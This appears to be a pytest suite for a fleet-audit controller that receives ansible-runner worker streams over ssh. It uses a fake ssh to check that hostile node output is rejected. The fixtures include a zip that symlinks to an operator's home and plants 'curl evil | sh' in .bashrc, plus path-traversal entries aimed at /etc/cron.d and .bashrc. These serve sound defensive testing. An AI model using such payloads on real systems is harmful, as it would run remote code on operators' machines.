"""What a worker's stream can do on the controller (gpufleet.workers, gpufleet.worker_stream), with a fake ``ssh``
on PATH in front of the real transmit and process:

- a malicious node: a valid event stream plus an artifacts zip holding ``x -> <a directory of the operator>`` and
  ``x/.bashrc`` (what ansible-runner's processor would unpack, following the link): the operator's file is
  untouched and nothing is written outside the run's temporary directory; the hosts' results still come back;
- a node whose stream is not ansible-runner's protocol or is too big: the region's hosts are unreachable with the
  reason, none of its results kept;
- a real node (the fake ssh runs the remote command with ``sh -c``, as sshd does, against this venv's real
  ``ansible-runner worker``): events + the worker's own zip give the results (the zip dropped), the transmitted job
  carries no unrelated inventory variable, and the node's temporary directory is gone afterwards, also when the
  controller's ssh is killed mid-run.
"""

from __future__ import annotations

import base64
import io
import json
import os
import stat
import sys
import tempfile
import time
import uuid
import zipfile
from pathlib import Path

import pytest

from gpufleet import paths, workers

REPO = Path(__file__).resolve().parents[2]
VENV = Path(sys.executable).parent.parent  # this venv plays the node's /opt/gpufleet/venv
ACTION = "ansible.builtin.ping"

# Answers from a file (a malicious or broken node), or runs the remote command with sh -c (the node), relaying
# stdin and stdout as sshd does (the command's pipes close when this process dies). Logs argv and keeps its stdin.
FAKE_SSH = """#!{python}
import json, os, subprocess, sys, threading
here = {here!r}
with open(os.path.join(here, "argv.log"), "a") as log:
    log.write(json.dumps(sys.argv[1:]) + "\\n")
answer = os.path.join(here, "answer-" + sys.argv[-2].rpartition("@")[2])  # this node's own answer, if any
if not os.path.exists(answer):
    answer = os.path.join(here, "answer")
child = None
if not os.path.exists(answer):
    env = dict(os.environ, TMPDIR=os.path.join(here, "node-tmp"))
    child = subprocess.Popen(["sh", "-c", sys.argv[-1]], stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                             env=env, start_new_session=True)
def pump_in():
    with open(os.path.join(here, "stdin.bin"), "wb") as keep:
        while True:
            data = os.read(0, 65536)
            if not data:
                break
            keep.write(data)
            keep.flush()
            if child is not None:
                child.stdin.write(data)
                child.stdin.flush()
    if child is not None:
        child.stdin.close()
pump = threading.Thread(target=pump_in, daemon=True)
pump.start()
if child is None:
    with open(answer, "rb") as fh:
        sys.stdout.buffer.write(fh.read())
    sys.stdout.flush()
    os.close(1)
    pump.join(20)
    sys.exit(0)
while True:
    data = child.stdout.read1(65536)
    if not data:
        break
    os.write(1, data)
sys.exit(child.wait())
"""


@pytest.fixture
def fake(tmp_path, monkeypatch):
    """A fake ssh first on PATH; the controller's temporary files under tmp_path/ctl-tmp (to see what stays)."""
    here = tmp_path / "fake"
    (here / "bin").mkdir(parents=True)
    (here / "node-tmp").mkdir()
    ssh = here / "bin" / "ssh"
    ssh.write_text(FAKE_SSH.format(python=sys.executable, here=str(here)))
    ssh.chmod(0o755)
    monkeypatch.setenv("PATH", f"{here / 'bin'}{os.pathsep}{os.environ['PATH']}")
    ctl = tmp_path / "ctl-tmp"
    ctl.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(ctl))
    paths.import_collection()
    return here


def _event(counter: int, kind: str, host: str, res: dict) -> dict:
    return {
        "uuid": str(uuid.uuid4()),
        "counter": counter,
        "stdout": "",
        "event": kind,
        "event_data": {"host": host, "task": "ping", "resolved_action": ACTION, "res": res},
    }


def _line(data: dict) -> bytes:
    return json.dumps(data).encode() + b"\n"


def _zip_record(entries: list[tuple[str, bytes, int]]) -> bytes:
    """``{"zipfile": N}`` and the zip's base64, as ansible-runner's stream_dir writes them (symlinks: mode
    0o120777 in external_attr, the target as content)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, content, mode in entries:
            info = zipfile.ZipInfo(name)
            info.create_system = 3
            info.external_attr = mode << 16
            archive.writestr(info, content)
    data = buf.getvalue()
    return _line({"zipfile": len(data)}) + base64.b64encode(data)


def _answer(hosts: list[str], *, extra: bytes = b"", end: bool = True) -> bytes:
    out = _line({"status": "starting", "runner_ident": "x"}) + _line({"status": "running", "runner_ident": "x"})
    for n, host in enumerate(hosts, start=1):
        out += _line(_event(n, "runner_on_ok", host, {"ping": "pong", "changed": False}))
    out += extra
    if end:
        out += _line({"status": "successful", "runner_ident": "x"}) + _line({"eof": True})
    return out


def _run(hosts: list[str], playbook: str = "audit.yml", hostvars: dict | None = None, **kwargs):
    w = workers.parse_option(f"eu=ssh://tester@exec-eu{VENV}")
    plan = workers.Plan(by_worker={w: hosts}, hostvars=hostvars or {h: {} for h in hosts})
    outcome = workers.run_all(plan, [], playbook, ACTION, {}, **kwargs)
    (run,) = outcome.workers
    return outcome, run


@pytest.fixture
def victim(tmp_path):
    home = tmp_path / "victim"
    home.mkdir()
    rc = home / ".bashrc"
    rc.write_text("# the operator's own\n")
    rc.chmod(0o644)
    return home


def _state(root: Path) -> dict:
    return {
        str(p.relative_to(root)): (p.read_bytes() if p.is_file() else None, stat.S_IMODE(p.lstat().st_mode))
        for p in sorted(root.rglob("*"))
    }


def test_a_nodes_zip_cannot_write_outside_the_run(fake, victim, tmp_path):
    """The zip holds ``x -> victim`` then ``x/.bashrc`` (0755): ansible-runner's processor alone would overwrite
    the victim's file and make it executable. Through the guard the zip is read (its directory only), never
    unpacked: the victim is as it was, nothing stays in the controller's temporary directory, and the region's
    hosts are unreachable with the reason (a node that sends this is not trusted for its results either)."""
    before = _state(victim)
    evil = _zip_record([("x", str(victim).encode(), 0o120777), ("x/.bashrc", b"curl evil | sh\n", 0o100755)])
    (fake / "answer").write_bytes(_answer(["eu1", "eu2"], extra=evil))
    outcome, run = _run(["eu1", "eu2"])
    assert _state(victim) == before
    assert list((tmp_path / "ctl-tmp").iterdir()) == []
    says = "the worker's artifacts zip holds a symlink: 'x'"
    assert run.error and says in run.error, run.error
    for name in ("eu1", "eu2"):
        assert outcome.results[name]["unreachable"] and says in outcome.results[name]["msg"]


def _big_event() -> bytes:
    return _line(_event(9, "runner_on_ok", "eu1", {"pad": "x" * 5000}))


@pytest.mark.parametrize(
    "extra, limits, says",
    [
        (b"Traceback (most recent call last):\n", {}, "a line that is not a JSON object"),
        (b"[1, 2]\n", {}, "a line that is not a JSON object"),
        (_line({"artifact": "x"}), {}, "a record of an unknown kind (keys: artifact)"),
        (_line({"zipfile": "10"}), {}, "malformed zipfile record"),
        (_line({"zipfile": -1}), {}, "malformed zipfile record"),
        (_big_event(), {"max_line_bytes": 4096}, "a line of the worker's stream exceeded 4096 bytes"),
        (_big_event() * 3, {"max_stream_bytes": 12000}, "the worker's stream exceeded 12000 bytes"),
        (_zip_record([("a", b"z" * 9000, 0o100644)]), {"max_stream_bytes": 2000}, "stream exceeded 2000 bytes"),
        (_zip_record([("../../.bashrc", b"x", 0o100644)]), {}, "zip holds a path outside its directory"),
        (_zip_record([("/etc/cron.d/x", b"x", 0o100644)]), {}, "zip holds a path outside its directory"),
        (_zip_record([("fifo", b"", 0o010644)]), {}, "zip holds a special file"),
        (b'{"zipfile": 6}\n' + base64.b64encode(b"nozip!"), {}, "zip is not a zip"),
        (b'{"zipfile": 6}\n' + b"!!!!!!!!", {}, "zip is not a zip"),
    ],
    ids=[
        "text", "not-object", "unknown", "zip-size-text", "zip-size-negative", "long-line", "too-big", "big-zip",
        "zip-dotdot", "zip-absolute", "zip-fifo", "zip-garbage", "zip-not-base64",
    ],
)
def test_a_stream_that_breaks_the_protocol_fails_the_region(fake, victim, extra, limits, says):
    """The region's hosts are unreachable with the guard's reason (the results that came before are not kept:
    the node is not trusted), the run's error says it, and the victim is untouched."""
    before = _state(victim)
    (fake / "answer").write_bytes(_answer(["eu1"], extra=extra + _answer(["eu2"], end=True)))
    outcome, run = _run(["eu1", "eu2"], **limits)
    assert run.error and says in run.error, run.error
    for name in ("eu1", "eu2"):
        result = outcome.results[name]
        assert result["unreachable"] and says in result["msg"], result
        assert result["msg"].startswith(f"worker eu (ssh://tester@exec-eu{VENV}) failed: ")
    assert _state(victim) == before


@pytest.fixture
def local_hosts(monkeypatch):
    """Two hosts on this machine; Ansible's own strategy (this venv plays a node without the collection)."""
    monkeypatch.setenv("ANSIBLE_STRATEGY", "ansible.builtin.linear")
    return {h: {"ansible_connection": "local", "ansible_python_interpreter": sys.executable} for h in ("eu1", "eu2")}


def _transmitted(stdin: bytes) -> str:
    """The job the controller sent, readable: its kwargs line and every file of its zip."""
    first, _, rest = stdin.partition(b"\n")
    header, _, rest = rest.partition(b"\n")
    size = json.loads(header)["zipfile"]
    encoded = rest[: 4 * ((size + 2) // 3)]
    with zipfile.ZipFile(io.BytesIO(base64.b64decode(encoded))) as archive:
        files = [archive.read(n).decode(errors="replace") for n in archive.namelist() if not n.endswith("/")]
    return "\n".join([first.decode(), *files])


def test_a_real_worker_gives_results_its_zip_dropped_and_its_dir_removed(fake, tmp_path, local_hosts):
    """The fake ssh runs the remote command (sh -c) as sshd would: the node's wrapper, this venv's
    ``ansible-runner worker``, a ping playbook on two local hosts. The results arrive (the worker's artifacts zip
    is in the stream and dropped), ssh was given the destination after ``--``, the node's temporary directory is
    empty afterwards and the controller's too."""
    playbook = tmp_path / "ping.yml"
    playbook.write_text("- hosts: all\n  gather_facts: false\n  tasks:\n    - ansible.builtin.ping:\n")
    outcome, run = _run(["eu1", "eu2"], str(playbook), local_hosts, timeout_s=120)
    assert run.error is None and run.status == "successful", (run.error, run.status)
    assert outcome.results["eu1"]["ping"] == "pong" and outcome.results["eu2"]["ping"] == "pong"
    argv = json.loads((fake / "argv.log").read_text().splitlines()[0])
    assert argv[-3:-1] == ["--", "tester@exec-eu"]
    assert b'{"zipfile"' in (fake / "stdin.bin").read_bytes()  # the job went over ssh's stdin, held open
    assert list((fake / "node-tmp").iterdir()) == []
    assert list((tmp_path / "ctl-tmp").iterdir()) == []


def test_the_job_carries_no_unrelated_inventory_variable(fake, tmp_path, local_hosts):
    """plan() from an inventory whose group vars hold ``db_password: s3cret`` and an unrelated variable: the
    transmitted job (read back from what ssh received) has the connection and gpufleet variables, not those."""
    inv = tmp_path / "hosts.yml"
    group_vars = {
        "ansible_connection": "local",
        "ansible_python_interpreter": sys.executable,
        "db_password": "s3cret",
        "backup_bucket": "s3://unrelated-bucket",
        "gpufleet_policy": {"site": "eu-west"},
    }
    inv.write_text(json.dumps({"all": {"children": {"eu": {"hosts": {"eu1": {}}, "vars": group_vars}}}}))
    plan = workers.plan([str(inv)], ["eu1"], [f"eu=ssh://tester@exec-eu{VENV}"])
    playbook = tmp_path / "ping.yml"
    playbook.write_text("- hosts: all\n  gather_facts: false\n  tasks:\n    - ansible.builtin.ping:\n")
    outcome = workers.run_all(plan, [str(inv)], str(playbook), ACTION, {}, timeout_s=120)
    assert outcome.results["eu1"]["ping"] == "pong", outcome.workers[0].error
    job = _transmitted((fake / "stdin.bin").read_bytes())
    assert "eu-west" in job and "ansible_python_interpreter" in job
    for secret in ("s3cret", "db_password", "unrelated-bucket", "backup_bucket"):
        assert secret not in job


def _node_leftovers(fake: Path) -> list[str]:
    return sorted(p.name for p in (fake / "node-tmp").iterdir())


def _sleeping(marker: str) -> list[int]:
    found = []
    for proc in Path("/proc").iterdir():
        try:
            if proc.name.isdigit() and (proc / "cmdline").read_bytes().split(b"\0")[:2] == [b"sleep", marker.encode()]:
                found.append(int(proc.name))
        except OSError:
            continue
    return found


def test_a_killed_ssh_leaves_no_directory_on_the_node(fake, tmp_path, local_hosts):
    """A run the controller gives up (its timeout kills ssh mid-playbook): the node's side of the stream closes,
    the wrapper stops the worker (and its playbook) and removes its directory, long before the playbook would
    have ended."""
    started_file = tmp_path / "started"
    marker = "97.31"  # this test's sleep, found again in /proc
    playbook = tmp_path / "slow.yml"
    target_tmp = tmp_path / "target-tmp"  # the local "target"'s own temporary files (a module killed mid-run)
    target_tmp.mkdir()
    playbook.write_text(
        f"- hosts: all\n  gather_facts: false\n  environment: {{TMPDIR: {target_tmp}}}\n  tasks:\n"
        f"    - ansible.builtin.copy: {{content: x, dest: {started_file}}}\n"
        f"    - ansible.builtin.command: sleep {marker}\n"
    )
    started = time.monotonic()
    outcome, run = _run(["eu1"], str(playbook), {"eu1": local_hosts["eu1"]}, timeout_s=10)
    assert "no end of the worker's stream within 10 s" in (run.error or ""), run.error
    assert outcome.results["eu1"]["unreachable"]
    assert started_file.is_file()  # the node was running the playbook when ssh was killed
    deadline = time.monotonic() + 40
    while (_node_leftovers(fake) or _sleeping(marker)) and time.monotonic() < deadline:
        time.sleep(0.5)
    assert _node_leftovers(fake) == []
    assert _sleeping(marker) == []
    assert time.monotonic() - started < 70


def test_a_node_cannot_answer_for_hosts_outside_its_region(fake, tmp_path):
    """A node's events about hosts it was not given (another region's, or made up) are not anyone's result: each
    host's result comes only from the part of the run that audits it."""
    (fake / "answer-exec-eu").write_bytes(_answer(["eu1", "us1", "made-up"]))  # eu's node lies about us1 too
    (fake / "answer-exec-us").write_bytes(_answer([]))  # us's node answers nothing for its host
    eu = workers.parse_option(f"eu=ssh://tester@exec-eu{VENV}")
    us = workers.parse_option(f"us=ssh://tester@exec-us{VENV}")
    plan = workers.Plan(by_worker={eu: ["eu1"], us: ["us1"]}, hostvars={"eu1": {}, "us1": {}})
    outcome = workers.run_all(plan, [], "audit.yml", ACTION, {})
    assert set(outcome.results) == {"eu1", "us1"}
    assert outcome.results["eu1"]["ping"] == "pong"
    assert outcome.results["us1"] is None
